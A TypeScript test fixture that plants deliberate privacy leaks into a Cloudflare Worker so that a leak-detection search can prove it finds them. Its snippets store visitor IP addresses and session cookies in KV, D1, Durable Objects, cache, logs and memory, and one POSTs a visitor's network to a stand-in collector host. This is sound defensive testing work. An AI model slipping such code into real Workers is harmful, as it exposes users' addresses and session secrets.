// Planted leaks: Workers that each keep one value of a visitor, one or more for each sink. The run fails if a leak is not
// found, because the search of that sink would prove nothing.

import type { WorkerOptions } from '../host/miniflare.ts';
import type { Sink } from './sinks.ts';

export interface Leak {
  readonly name: string;
  readonly sink: Sink;
  /** Statements that the leak adds at module level of the Worker's entry. */
  readonly state?: string;
  /** Statements that run before the Worker handles a request; they may use `request`, `env` and `context`. */
  readonly before?: string;
  /** Statements that run after the Worker has made its response; they may assign to `response`. */
  readonly after?: string;
  /**
   * Whether the leak keeps the secret of a session, which the search must find. The visitors are signed in to the
   * dashboard then.
   */
  readonly ofSession?: boolean;
  /** Bindings that the leak needs and the real Worker does not have, as options of Miniflare. */
  readonly options?: WorkerOptions;
  /** The examination that must find the leak: of stores, of isolates in plain workerd, or of the dashboard's memory. */
  readonly in: 'stores' | 'workerd' | 'dashboard';
}

const address = "(request.headers.get('CF-Connecting-IP') ?? '')";
const number = `${address}.split('.').reduce((sum, part) => sum * 256 + Number(part), 0)`;
const session = "((request.headers.get('Cookie') ?? '').split('__Host-wherefrom=')[1] ?? '')";
const sha256 = (text: string) =>
  `const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(${text}));
    const hash = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, '0')).join('');`;

/** Counts the visitor's address in place of an allowlist entry. */
const countingAddress = `const cell = { outcome: 'answered_page', entry: ${address}, key: null, link: null, count: 1 };
    const id = { isolate: 'a', sequence: Date.now() };
    const object = env.USAGE.get(env.USAGE.idFromName('deployment'));
    await object.flush({ id, hour: Math.floor(Date.now() / 3600000), cells: [cell], dropped: 0, epoch: 0, quota: null });`;

const inStores: readonly Leak[] = [
  {
    name: 'an address as a key',
    sink: 'KV on disk',
    in: 'stores',
    before: `await env.PROJECTS.put('seen:' + ${address}, '1');`,
  },
  {
    name: 'the SHA-256 of an address in a row',
    sink: 'D1 on disk',
    in: 'stores',
    before: `${sha256(address)}
    await env.DB.prepare('CREATE TABLE IF NOT EXISTS seen (hash TEXT)').run();
    await env.DB.prepare('INSERT INTO seen VALUES (?)').bind(hash).run();`,
  },
  {
    name: 'packed bytes of an address',
    sink: 'Durable Objects on disk',
    in: 'stores',
    state: `import { DurableObject } from 'cloudflare:workers';
export class Seen extends DurableObject {
  async fetch(request: Request) {
    await this.ctx.storage.put('last', await request.arrayBuffer());
    return new Response();
  }
}`,
    before: `const packed = new Uint8Array(${address}.split('.').map(Number));
    await env.SEEN.getByName('all').fetch('https://seen.example/', { method: 'POST', body: packed });`,
    options: { durableObjects: { SEEN: { className: 'Seen', useSQLite: true } } },
  },
  {
    name: 'an address as the entry of a count',
    sink: 'Durable Objects on disk',
    in: 'stores',
    before: countingAddress,
  },
  {
    name: 'a user agent, base64, in the URL of a cached response',
    sink: 'cache on disk',
    in: 'stores',
    before: `const agent = btoa(request.headers.get('User-Agent') ?? '').replaceAll('=', '');
    const cached = new Response('1', { headers: { 'Cache-Control': 'max-age=60' } });
    await caches.default.put('https://cache.example/' + agent, cached);`,
  },
  {
    name: 'an address in a store that wrangler.toml does not have',
    sink: 'other files',
    in: 'stores',
    before: `await env.BUCKET.put('last', ${address});`,
    options: { r2Buckets: ['BUCKET'] },
  },
];

const outside: readonly Leak[] = [
  {
    name: 'the network of an address, sent to a collector',
    sink: 'requests to the internet',
    in: 'stores',
    before: `const network = ${address}.split('.').slice(0, 3).join('.') + '.0/24';
    await fetch('https://collector.example/', { method: 'POST', body: network });`,
  },
  {
    name: 'an address as a number in console.log',
    sink: 'stdout',
    in: 'stores',
    before: `console.log(${number});`,
  },
  {
    name: 'a language in console.error',
    sink: 'stderr',
    in: 'stores',
    before: "console.error(request.headers.get('Accept-Language'));",
  },
  {
    name: 'a path in an uncaught exception',
    sink: 'stderr',
    in: 'workerd',
    before: 'throw new Error(request.url);',
  },
  {
    name: 'requests counted by address',
    sink: 'binding calls',
    in: 'stores',
    before: `await env.RATE_STANDARD.limit({ key: ${address} });`,
  },
  {
    name: 'a call that is not on the list',
    sink: 'binding calls',
    in: 'stores',
    before: 'await env.PROJECTS.list();',
  },
  {
    name: 'the previous address in a header',
    sink: 'other responses',
    in: 'stores',
    state: "let last = '';",
    after: `response = new Response(response.body, response);
    response.headers.set('X-Last', last);
    last = ${address};`,
  },
  {
    name: 'the path in the body',
    sink: 'refusals',
    in: 'stores',
    after:
      'if (!response.ok) response = new Response((await response.text()) + new URL(request.url).search, response);',
  },
];

const ofSessions: readonly Pick<Leak, 'name' | 'sink' | 'before' | 'after'>[] = [
  {
    name: 'a session secret in a row',
    sink: 'D1 on disk',
    before: `await env.DB.prepare('CREATE TABLE IF NOT EXISTS seen (secret TEXT)').run();
    await env.DB.prepare('INSERT INTO seen VALUES (?)').bind(${session}).run();`,
  },
  {
    name: 'a session secret in a value',
    sink: 'KV on disk',
    before: `await env.PROJECTS.put('seen', ${session});`,
  },
  {
    name: 'the hash of a session in a key',
    sink: 'KV on disk',
    before: `${sha256(session)}
    await env.PROJECTS.put('seen:' + hash, '1');`,
  },
  {
    name: 'the secret of a new session in a value',
    sink: 'KV on disk',
    after: `const cookie = response.headers.get('Set-Cookie');
    if (cookie !== null) await env.PROJECTS.put('seen', cookie);`,
  },
  {
    name: 'a session secret in console.log',
    sink: 'stdout',
    before: `console.log(${session});`,
  },
  {
    name: 'requests counted by the hash of a session',
    sink: 'binding calls',
    before: `${sha256(session)}
    await env.RATE_STANDARD.limit({ key: hash });`,
  },
];

const inMemory: readonly Leak[] = [
  {
    name: 'addresses in a Set',
    sink: 'heap objects',
    in: 'workerd',
    state: 'const seen = new Set();',
    before: `seen.add(${address});`,
  },
  {
    name: 'addresses as numbers in a Map',
    sink: 'heap objects',
    in: 'workerd',
    state: 'const seen = new Map();',
    before: `seen.set(${number}, 1);`,
  },
  {
    name: 'a few letters cut from a URL, which keep the whole text alive',
    sink: 'heap objects',
    in: 'workerd',
    state: "let last = '';",
    before: 'last = request.url.slice(0, 30);',
  },
  {
    name: 'a client hint looked up in an object, whose key the engine keeps',
    sink: 'heap objects',
    in: 'workerd',
    state: 'const names: any = { Chromium: 1 }; let known = 0;',
    before: "known += names[request.headers.get('Sec-CH-UA-Model') ?? ''] ?? 0;",
  },
  {
    name: 'a session cookie matched by a pattern, whose last subject the engine keeps',
    sink: 'heap objects',
    in: 'dashboard',
    ofSession: true,
    after: "/__Host-wherefrom=([^;]*)/.exec(request.headers.get('Cookie') ?? '');",
  },
  {
    name: 'flushes with an address, which the object keeps in memory',
    sink: 'heap objects',
    in: 'workerd',
    state: `import { ProjectUsage as Counted } from './src/usage/project-usage.ts';
export class ProjectUsage extends Counted {
  seen: unknown[] = [];
  async flush(flush: any) {
    this.seen.push(flush);
    return await super.flush(flush);
  }
}`,
    before: countingAddress,
  },
  {
    name: 'a closure that waits for a timer',
    sink: 'heap objects',
    in: 'workerd',
    before: `const agent = request.headers.get('User-Agent');
    context.waitUntil(new Promise((resolve) => setTimeout(() => resolve(agent), 60000)));`,
  },
  {
    name: 'packed addresses in a typed array',
    sink: 'heap buffers',
    in: 'workerd',
    state: 'const ring = new Uint32Array(64); let at = 0;',
    before: `ring[at++ % 64] = ${number};`,
  },
  {
    name: 'addresses as numbers in a list',
    sink: 'heap buffers',
    in: 'workerd',
    state: 'const seen: number[] = [];',
    before: `seen.push(${number} + 0.5 - 0.5);`,
  },
];

export const leaks: readonly Leak[] = [
  ...inStores,
  ...outside,
  ...ofSessions.map((leak): Leak => ({ ...leak, in: 'stores', ofSession: true })),
  ...inMemory,
];
